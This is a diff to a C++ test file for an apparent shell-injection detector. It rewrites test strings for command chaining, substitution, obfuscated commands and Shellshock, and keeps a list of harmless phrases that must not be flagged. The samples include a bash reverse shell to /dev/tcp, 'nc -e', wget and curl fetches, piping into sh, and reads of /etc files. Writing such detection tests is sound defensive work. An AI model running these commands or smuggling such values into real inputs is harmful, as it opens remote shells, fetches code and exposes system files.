@@ -7,18 +7,17 @@ namespace {
 
 TEST(Shell, FindsChains) {
   for (const char* const text : {
-           R"~(x; ls -la)~",
-           R"~(x | cat /etc/hosts)~",
-           R"~(x && whoami)~",
-           R"~(x||id)~",
-           R"~(x
-id)~",
-           R"~(& ping -c 3 10.0.0.1 &)~",
+           "x; ls -la",
+           "x | cat /etc/hosts",
+           "x && whoami",
+           "x||id",
+           "x\nid",
+           "& ping -c 3 10.0.0.1 &",
            R"~(|dir c:\)~",
-           R"~(x;wget http://h/x)~",
-           R"~(; sleep 5)~",
-           R"~(x; uname)~",
-           R"~(a; c=$(id))~",
+           "x;wget http://h/x",
+           "; sleep 5",
+           "x; uname",
+           "a; c=$(id)",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandChain, text)) << text << ": " << RulesOf(text);
   }
@@ -26,12 +25,12 @@ id)~",
 
 TEST(Shell, FindsSubstitutions) {
   for (const char* const text : {
-           R"~($(id))~",
-           R"~($(cat /etc/x))~",
-           R"~(x`id`)~",
-           R"~(`curl h`)~",
-           R"~($((5+7)))~",
-           R"~(<(curl -s http://h))~",
+           "$(id)",
+           "$(cat /etc/x)",
+           "x`id`",
+           "`curl h`",
+           "$((5+7))",
+           "<(curl -s http://h)",
            R"~("$(whoami)")~",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandSubstitution, text)) << text << ": " << RulesOf(text);
@@ -40,12 +39,12 @@ TEST(Shell, FindsSubstitutions) {
 
 TEST(Shell, FindsWhatOnlyAShellReads) {
   for (const char* const text : {
-           R"~(cat${IFS}x)~",
-           R"~(bash -i >& /dev/tcp/10.0.0.1/80 0>&1)~",
-           R"~(nc -e x)~",
-           R"~(cmd.exe /c dir)~",
-           R"~(x | sh)~",
-           R"~(powershell -enc AAAA)~",
+           "cat${IFS}x",
+           "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
+           "nc -e x",
+           "cmd.exe /c dir",
+           "x | sh",
+           "powershell -enc AAAA",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandShell, text)) << text << ": " << RulesOf(text);
   }
@@ -53,10 +52,10 @@ TEST(Shell, FindsWhatOnlyAShellReads) {
 
 TEST(Shell, FindsProgramsByPath) {
   for (const char* const text : {
-           R"~(/bin/cat x)~",
-           R"~(/usr/bin/id)~",
-           R"~(;/sbin/ifconfig)~",
-           R"~(x=/usr/local/bin/python3 -c)~",
+           "/bin/cat x",
+           "/usr/bin/id",
+           ";/sbin/ifconfig",
+           "x=/usr/local/bin/python3 -c",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandPath, text)) << text << ": " << RulesOf(text);
   }
@@ -64,12 +63,12 @@ TEST(Shell, FindsProgramsByPath) {
 
 TEST(Shell, FindsHiddenCommands) {
   for (const char* const text : {
-           R"~(; c'a't /x)~",
+           "; c'a't /x",
            R"~(; w\hoami)~",
            R"~(|ca""t /x)~",
-           R"~(/???/??t /x)~",
-           R"~(; u$@name -a)~",
-           R"~(& who^ami)~",
+           R"(/???/??t /x)",
+           "; u$@name -a",
+           "& who^ami",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandHidden, text)) << text << ": " << RulesOf(text);
   }
@@ -77,9 +76,9 @@ TEST(Shell, FindsHiddenCommands) {
 
 TEST(Shell, FindsShellshock) {
   for (const char* const text : {
-           R"~(() { :; }; echo x)~",
-           R"~(() { x; })~",
-           R"~(() { _; } >_[$($())] { id; })~",
+           "() { :; }; echo x",
+           "() { x; }",
+           "() { _; } >_[$($())] { id; }",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandFunction, text)) << text << ": " << RulesOf(text);
   }
@@ -87,10 +86,10 @@ TEST(Shell, FindsShellshock) {
 
 TEST(Shell, FindsCommandLines) {
   for (const char* const text : {
-           R"~(cat /etc/x)~",
-           R"~(wget http://h/x)~",
-           R"~(curl -o x http://h)~",
-           R"~(ping -n 3 h)~",
+           "cat /etc/x",
+           "wget http://h/x",
+           "curl -o x http://h",
+           "ping -n 3 h",
            R"~(dir c:\)~",
        }) {
     EXPECT_TRUE(Finds(Rule::kCommandAlone, text)) << text << ": " << RulesOf(text);
@@ -99,47 +98,43 @@ TEST(Shell, FindsCommandLines) {
 
 TEST(Shell, LeavesSentencesAlone) {
   for (const char* const text : {
-           R"~(bread & butter)~",
-           R"~(cats; find out more)~",
-           R"~(this | that)~",
-           R"~(black & white)~",
-           R"~(curl and divergence)~",
-           R"~(find the best)~",
-           R"~(cut & sew)~",
-           R"~(tea; more)~",
-           R"~(R&D)~",
-           R"~(A & E)~",
-           R"~(Smith & Sons; est. 1890)~",
-           R"~(less is more)~",
-           R"~(who am I)~",
-           R"~(zsh is the best!)~",
-           R"~(make it so)~",
-           R"~(the id of x)~",
-           R"~(AT&T)~",
-           R"~(sort by: date)~",
-           R"~(Mozilla/5.0 (X11; Linux x86_64; rv:105.0))~",
-           R"~(5 & 6)~",
-           R"~(date & time)~",
-           R"~(a;b;c)~",
-           R"~(rock & cat)~",
-           R"~($(document))~",
-           R"~($('#id'))~",
-           R"~(price: $5 (net))~",
-           R"~(time | date)~",
-           R"~(type: `id`)~",
-           R"~(a=1&id=5&sort=x)~",
-           R"~(line one
-find me
-sort it)~",
-           R"~(head & shoulders)~",
-           R"~(Error:
-    at https://example.org/x.js:2:3)~",
-           R"~(first line
-last line)~",
-           R"~(kill bill)~",
-           R"~(top 10 & more)~",
-           R"~(host a party)~",
-           R"~(dash (punctuation))~",
+           "bread & butter",
+           "cats; find out more",
+           "this | that",
+           "black & white",
+           "curl and divergence",
+           "find the best",
+           "cut & sew",
+           "tea; more",
+           "R&D",
+           "A & E",
+           "Smith & Sons; est. 1890",
+           "less is more",
+           "who am I",
+           "zsh is the best!",
+           "make it so",
+           "the id of x",
+           "AT&T",
+           "sort by: date",
+           "Mozilla/5.0 (X11; Linux x86_64; rv:105.0)",
+           "5 & 6",
+           "date & time",
+           "a;b;c",
+           "rock & cat",
+           "$(document)",
+           "$('#id')",
+           "price: $5 (net)",
+           "time | date",
+           "type: `id`",
+           "a=1&id=5&sort=x",
+           "line one\nfind me\nsort it",
+           "head & shoulders",
+           "Error:\n    at https://example.org/x.js:2:3",
+           "first line\nlast line",
+           "kill bill",
+           "top 10 & more",
+           "host a party",
+           "dash (punctuation)",
        }) {
     EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
   }
